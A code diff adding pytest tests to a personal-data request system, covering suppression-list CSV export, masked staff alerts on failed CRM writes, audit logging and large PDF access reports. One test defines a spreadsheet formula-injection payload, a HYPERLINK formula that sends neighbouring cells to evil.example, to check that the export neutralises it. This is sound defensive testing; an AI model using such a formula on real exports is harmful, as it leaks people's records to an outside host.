@@ -2,6 +2,7 @@
 
 from __future__ import annotations
 
+import csv
 import io
 import json
 from collections.abc import Mapping, Sequence
@@ -16,13 +17,15 @@ from sqlalchemy.ext.asyncio import AsyncSession, async_sessionmaker
 
 from tests.clocks import FrozenClock
 from tests.conftest import STAFF_ID
+from tests.test_cli_frame import aina_dsr
 from workflows.directory import CustomerRecord, import_customers, import_purchases
-from workflows.errors import NotAllowed
+from workflows.errors import IllegalTransition, NotAllowed
 from workflows.fulfilment import (
     ACCOUNT_FIELDS,
     Flags,
     Fulfilment,
     FulfilmentError,
+    FulfilmentFailed,
     SqlDirectory,
     Suppression,
     parse_corrections,
@@ -159,6 +162,37 @@ async def test_withdrawal_and_unsubscribe_reach_the_suppression_list(
     assert record.marketing_consent is False
 
 
+# The person's own words, as a spreadsheet would run them: the cells beside it leave the office.
+LEAK = '=HYPERLINK("http://evil.example/?leak="&A2&B2,"Open")'
+
+
+async def test_the_suppression_csv_neutralises_a_persons_words_a_spreadsheet_would_run(
+    service: RequestService,
+    fulfilment: Fulfilment,
+    database_url: str,
+    encryption_key: str,
+    tmp_path: Path,
+) -> None:
+    withdraw = await filed(service, "withdraw_consent", full_name="A S", data_concerned=LEAK)
+    await fulfilment.approve(withdraw, DANA)
+    settings = {"DSR_DATABASE_URL": database_url, "DSR_ENCRYPTION_KEY": encryption_key}
+
+    printed = aina_dsr(tmp_path, "directory", "export-suppressions", **settings)
+    assert printed.returncode == 0, printed.stderr
+    out = tmp_path / "suppressions.csv"
+    written = aina_dsr(tmp_path, "directory", "export-suppressions", "-o", str(out), **settings)
+    assert written.returncode == 0, written.stderr
+    assert out.read_text(encoding="utf-8") == printed.stdout
+
+    (row,) = list(csv.DictReader(io.StringIO(printed.stdout)))
+    assert row["processing_scope"] == "'" + LEAK
+    assert row["customer_id"] == "C-1001"
+    assert row["marketing_stopped_at"].startswith("2026-11-24")
+    # JSON is for programs: the words stay as the person wrote them.
+    as_json = aina_dsr(tmp_path, "directory", "export-suppressions", "--format", "json", **settings)
+    assert json.loads(as_json.stdout)[0]["processing_scope"] == LEAK
+
+
 async def test_a_correction_changes_the_directory_and_tells_the_person_what(
     service: RequestService,
     fulfilment: Fulfilment,
@@ -290,3 +324,127 @@ async def test_both_approvers_of_a_destruction_must_name_the_same_fields(
 
     done = await fulfilment.approve(reference, ARMAN, fields=["iin"])
     assert done.status == "completed"
+
+
+class DownCrm(MemoryCrm):
+    """A CRM that answers lookups but times out on every change."""
+
+    async def set_flags(self, customer_id: str, flags: Flags) -> None:
+        raise TimeoutError(f"CRM write timed out for {PHONE}")
+
+
+async def test_a_failed_fulfilment_alerts_staff_is_audited_and_stays_approved_for_a_retry(
+    service: RequestService,
+    directory: SqlDirectory,
+    sessions: async_sessionmaker[AsyncSession],
+    vault: Vault,
+    clock: FrozenClock,
+) -> None:
+    record = await directory.lookup(customer_id="C-1001")
+    assert record is not None
+    down = Fulfilment(service, DownCrm({"C-1001": record}), clock)
+    reference = await filed(service, "unsubscribe")
+
+    with pytest.raises(FulfilmentFailed) as failed:
+        await down.approve(reference, DANA)
+
+    view = await service.get(reference, with_events=True)
+    assert view.status == "approved"  # staff can try again
+    event = view.events[-1]
+    assert (event.action, event.actor_name, event.from_status) == (
+        "fulfilment_failed",
+        "Dana",
+        "approved",
+    )
+    assert event.to_status is None
+    assert event.details["error"] == "TimeoutError"
+    # The staff group hears which request and why, the phone in the error masked.
+    (alert,) = await notices(sessions, vault, "staff_fulfilment_failed")
+    assert alert["reference"] == reference
+    assert alert["reason"] == "TimeoutError: CRM write timed out for +7701*****67"
+    assert str(failed.value) == alert["reason"]
+    # The audit log, kept for good, holds no value a foreign error message carried.
+    assert "7701" not in json.dumps(event.details)
+    # The person is told nothing until the work is done.
+    assert await notices(sessions, vault, "unsubscribed") == []
+
+    done = await Fulfilment(service, directory, clock).fulfil(await service.get(reference), DANA)
+
+    assert done.status == "completed"
+    assert len(await notices(sessions, vault, "unsubscribed")) == 1
+
+
+class ReportlessCrm(MemoryCrm):
+    """A CRM whose lookup fails the way a broken report would: inside the work."""
+
+    async def lookup(self, **criteria: str | None) -> CustomerRecord | None:
+        raise ValueError("The row with index 0 is too high and cannot be rendered")
+
+
+async def test_an_access_report_that_cannot_be_made_alerts_staff(
+    service: RequestService,
+    sessions: async_sessionmaker[AsyncSession],
+    vault: Vault,
+    clock: FrozenClock,
+) -> None:
+    reference = await filed(service, "access")
+
+    with pytest.raises(FulfilmentFailed, match="ValueError: The row with index 0"):
+        await Fulfilment(service, ReportlessCrm({}), clock).approve(reference, DANA)
+
+    view = await service.get(reference, with_events=True)
+    assert view.status == "approved"
+    assert [e.action for e in view.events][-2:] == ["approve", "fulfilment_failed"]
+    (alert,) = await notices(sessions, vault, "staff_fulfilment_failed")
+    assert alert["reference"] == reference
+    assert await notices(sessions, vault, "access_report") == []
+
+
+async def test_a_request_another_staff_member_completed_meanwhile_raises_no_alarm(
+    service: RequestService,
+    fulfilment: Fulfilment,
+    sessions: async_sessionmaker[AsyncSession],
+    vault: Vault,
+) -> None:
+    reference = await filed(service, "unsubscribe")
+    approved = await service.approve(reference, DANA)
+    await fulfilment.fulfil(approved, ARMAN)
+
+    with pytest.raises(IllegalTransition):
+        await fulfilment.fulfil(approved, DANA)  # pressed on a card not yet refreshed
+
+    assert await notices(sessions, vault, "staff_fulfilment_failed") == []
+    assert "fulfilment_failed" not in [
+        e.action for e in (await service.get(reference, with_events=True)).events
+    ]
+
+
+async def test_a_large_access_report_is_made_and_sent(
+    service: RequestService,
+    directory: SqlDirectory,
+    sessions: async_sessionmaker[AsyncSession],
+    vault: Vault,
+    clock: FrozenClock,
+) -> None:
+    # A description of 5,000 characters without a space, as a CRM may hold one.
+    description = "".join(f"{n:04d}Ә" for n in range(1000))
+    record = await directory.lookup(customer_id="C-1001")
+    assert record is not None
+    crm = MemoryCrm(
+        {
+            "C-1001": replace(
+                record, purchases=(replace(record.purchases[0], description=description),)
+            )
+        }
+    )
+    reference = await filed(service, "access")
+
+    view = await Fulfilment(service, crm, clock).approve(reference, DANA)
+
+    assert view.status == "completed"
+    (notice,) = await notices(sessions, vault, "access_report")
+    pdf, _ = await service.documents(reference, notice["documents"])  # type: ignore[arg-type]
+    reader = PdfReader(io.BytesIO(pdf.data))
+    text = "".join("".join(page.extract_text() for page in reader.pages).split())
+    for piece in (description[:50], description[2500:2550], description[-50:]):
+        assert piece in text
